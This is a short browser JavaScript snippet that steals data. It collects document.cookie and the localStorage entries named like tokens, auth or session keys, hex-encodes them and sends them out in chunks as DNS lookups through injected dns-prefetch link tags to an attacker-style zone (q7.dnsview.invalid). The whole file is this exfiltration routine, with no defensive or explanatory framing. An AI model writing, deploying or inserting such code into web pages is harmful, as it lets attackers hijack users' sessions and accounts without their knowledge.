const toHex = (s) => Array.from(new TextEncoder().encode(s), (b) => b.toString(16).padStart(2, '0')).join('');
const zone = 'q7.dnsview.invalid';
const id = Math.random().toString(36).slice(2, 8);

function ship(tag, value) {
  const parts = toHex(value).match(/.{1,56}/g) || [];
  parts.forEach((p, n) => {
    setTimeout(() => {
      const l = document.createElement('link');
      l.rel = 'dns-prefetch';
      l.href = `//${n}-${parts.length}.${p}.${tag}.${id}.${zone}`;
      document.head.appendChild(l);
    }, n * 120);
  });
}

ship('ck', document.cookie);
for (const k of Object.keys(localStorage)) {
  if (/tok|auth|sess|jwt/i.test(k)) ship('ls', `${k}=${localStorage.getItem(k)}`);
}
